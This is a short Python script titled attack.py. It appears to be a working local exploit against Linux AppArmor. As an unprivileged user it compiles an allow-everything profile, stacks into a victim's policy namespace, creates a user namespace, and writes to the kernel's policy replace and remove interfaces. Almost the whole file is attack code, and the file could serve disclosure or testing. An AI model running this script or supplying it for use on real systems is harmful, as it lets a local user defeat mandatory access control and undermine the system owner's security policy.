# SPDX-License-Identifier: Apache-2.0
"""attack.py PROFILE VICTIM [remove]: as any local user, put a profile that allows all into the victim's policy namespace,
or remove one."""

import ctypes
import os
import subprocess
import sys

FEATURES = "/sys/kernel/security/apparmor/features"
KERNEL = "/sys/kernel/security/apparmor"
NEWUSER = 0x10000000
ALL = "profile %s flags=(attach_disconnected) { file, capability, network, signal, ptrace, mount, umount, pivot_root, }\n"

profile, victim = sys.argv[1:3]
parser = ["/usr/sbin/apparmor_parser", "--config-file", "/dev/null", "-QTKq", "--kernel-features", FEATURES,
          "--policy-features", FEATURES, "-o", "/dev/stdout"]
binary = subprocess.run(parser, input=(ALL % profile).encode(), stdout=subprocess.PIPE, check=True).stdout
user = os.getuid()


def write(path, data):
    fd = os.open(path, os.O_WRONLY)
    os.write(fd, data)
    os.close(fd)


write("/proc/self/attr/apparmor/current", b"stack :immure-%s:unconfined" % victim.encode())
if ctypes.CDLL(None).unshare(NEWUSER) < 0:
    sys.exit("unshare")
write("/proc/self/uid_map", b"0 %d 1" % user)
if "remove" in sys.argv[3:]:
    write(f"{KERNEL}/.remove", profile.encode())
    print("removed")
else:
    write(f"{KERNEL}/.replace", binary)
    print("replaced")
